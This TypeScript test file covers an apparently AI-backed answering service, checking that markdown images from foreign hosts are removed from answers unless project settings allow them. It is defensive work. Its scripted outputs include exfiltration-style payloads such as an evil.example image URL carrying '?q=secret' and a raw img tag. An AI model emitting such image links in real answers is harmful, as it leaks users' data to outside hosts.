import { exports } from "cloudflare:workers";
import { beforeAll, describe, it } from "vitest";
import { z } from "zod";

import { BASE_URL, type TestProject } from "../project.ts";
import { echo } from "../runs/workflow-project.ts";
import { useScriptedModel } from "./answering-project.ts";
import { collect } from "./collect.ts";
import { createLibrary } from "./library.ts";

const MODEL = "scripted";
const Span = z.object({ start_index: z.number(), end_index: z.number() });
const GROUNDING: object = { include: ["edgewise.grounding"] };
const HARBOUR = `The harbour opens at six in the morning.
Boats longer than twenty metres need a pilot.
The map of the harbour is here: ![map](https://maps.example/harbour.png)
`;
const DRAWN =
  "Look 😀! The harbour opens at six in the morning. (image removed: a b) (image removed) " +
  "![map](https://maps.example/harbour.png) \ufffd " +
  "Boats longer than twenty metres need a pilot. [more](https://evil.example/page)";

let harbour: Awaited<ReturnType<typeof createLibrary>>;

beforeAll(async () => {
  useScriptedModel(MODEL);
  harbour = await createHarbour();
});

const createHarbour = () => createLibrary({ filename: "harbour.txt", text: HARBOUR });

async function changeSettings({ scope }: TestProject, output: object) {
  const changed = await exports.default.fetch(
    `${BASE_URL}/organization/projects/${scope.projectId}`,
    {
      method: "POST",
      headers: { authorization: "Bearer admin-key-of-tests", "content-type": "application/json" },
      body: JSON.stringify({ settings: { output } }),
    },
  );
  if (changed.status !== 200) throw new Error(await changed.text());
}

describe("an answer with images of a foreign host", () => {
  it("is streamed and stored without them, with its citations in place", async ({ expect }) => {
    const { client, tools } = harbour;
    const input = "When does the harbour open? #draws";
    const stream = await client.responses.create({
      model: MODEL,
      input,
      tools,
      stream: true,
      ...GROUNDING,
    });
    const events = await collect(stream);
    const deltas = events.flatMap((event) =>
      event.type === "response.output_text.delta" ? [event.delta] : [],
    );
    const completed = events.find((event) => event.type === "response.completed");
    const stored = await client.responses.retrieve(completed?.response.id ?? "");
    const annotations = events.flatMap((event) =>
      event.type === "response.output_text.annotation.added" ? [event.annotation] : [],
    );

    expect(deltas.join("")).toBe(DRAWN);
    expect(deltas.every((delta) => delta.isWellFormed())).toBe(true);
    expect(stored.output_text).toBe(DRAWN);
    const spans = annotations.map((annotation) => Span.parse(annotation));
    expect(spans.map(({ start_index: start, end_index: end }) => DRAWN.slice(start, end))).toEqual([
      "The harbour opens at six in the morning.",
      expect.stringMatching(/ Boats longer than twenty metres need a pilot\.$/),
    ]);
  });

  it("has none that the markers of citations hide", async ({ expect }) => {
    const { client, tools } = harbour;
    const input = "When does the harbour open? #draws-markers";
    const { output_text: text } = await client.responses.create({ model: MODEL, input, tools });

    expect(text).toBe(
      "The harbour opens at six in the morning. (image removed: a) (image removed) " +
        "Boats longer than twenty metres need a pilot.",
    );
  });

  it("is a chat completion without them, streamed or not", async ({ expect }) => {
    const { client, store } = harbour;
    const body = {
      model: MODEL,
      messages: [{ role: "user" as const, content: "When does the harbour open today? #draws" }],
      file_search: { vector_store_ids: [store.id] },
    };
    const whole = await client.chat.completions.create(body);
    const chunks = await collect(await client.chat.completions.create({ ...body, stream: true }));
    const streamed = chunks.map(({ choices }) => choices[0]?.delta.content ?? "").join("");

    expect([whole.choices[0]?.message.content, streamed]).toEqual([DRAWN, DRAWN]);
  });

  it("is the answer of a workflow without them, whichever step has written it", async ({
    expect,
  }) => {
    const { client, save, tools } = harbour;
    const generate = {
      find: {
        use: "retrieve@1",
        with: { query: "${ input.question }", vector_store_ids: "${ input.vector_store_ids }" },
      },
      draft: {
        use: "generate@1",
        needs: ["find"],
        with: {
          model: MODEL,
          question: "${ input.question } #draws",
          passages: "${ steps.find.output.passages }",
        },
      },
    };
    const drafted = await save(generate, "${ steps.draft.output }");
    const written = await save(
      { say: echo("A ![b](https://evil.example/c) [d](https://evil.example/e)") },
      "${ steps.say.output }",
    );
    const input = "When does the harbour open?";
    const first = await client.responses.create({
      model: MODEL,
      input,
      tools,
      ...GROUNDING,
      ...drafted,
    });
    const second = await client.responses.create({ model: MODEL, input, ...written });

    expect(first.output_text).toBe(DRAWN);
    expect(second.output_text).toBe("A (image removed: b) [d](https://evil.example/e)");
  });

  it("keeps them when the project's settings allow them", async ({ expect }) => {
    const allowing = await createHarbour();
    await changeSettings(allowing, {
      images: { hosts: ["evil.example"] },
      links: { allow: "none" },
    });
    const { client, tools } = allowing;
    const { output_text: text } = await client.responses.create({
      model: MODEL,
      input: "When does the harbour open? #draws",
      tools,
    });

    expect(text).toContain(
      "![a. b](https://evil.example/?q=secret) <img src='https://evil.example/x'>",
    );
    expect(text).toContain("more (link removed)");
  });
});

describe("an answer of the built-in model", () => {
  it("quotes an image of its source, unless the project's settings allow none", async ({
    expect,
  }) => {
    const own = await createHarbour();
    const ask = async () => {
      const { client, tools } = own;
      const input = "Where is the map of the harbour?";
      return (await client.responses.create({ model: "extractive-1", input, tools })).output_text;
    };
    const free = await ask();
    await changeSettings(own, { images: { allow: "none" } });

    expect(free).toContain(
      "The map of the harbour is here: ![map](https://maps.example/harbour.png)",
    );
    expect(await ask()).toContain("The map of the harbour is here: (image removed: map)");
  });
});

describe("an item that a client sends", () => {
  it("is stored as well-formed Unicode", async ({ expect }) => {
    const { client, fetch } = harbour;
    const { id } = await client.conversations.create();
    const added = await fetch(`/conversations/${id}/items`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: String.raw`{"items":[{"type":"message","role":"user","content":"a\ud800b\ud83d\ude00\\ud800"}]}`,
    });
    const [item] = (await client.conversations.items.list(id)).data;

    expect(added.status).toBe(200);
    expect(item).toMatchObject({ content: [{ text: "a\ufffdb😀\\ud800" }] });
  });
});
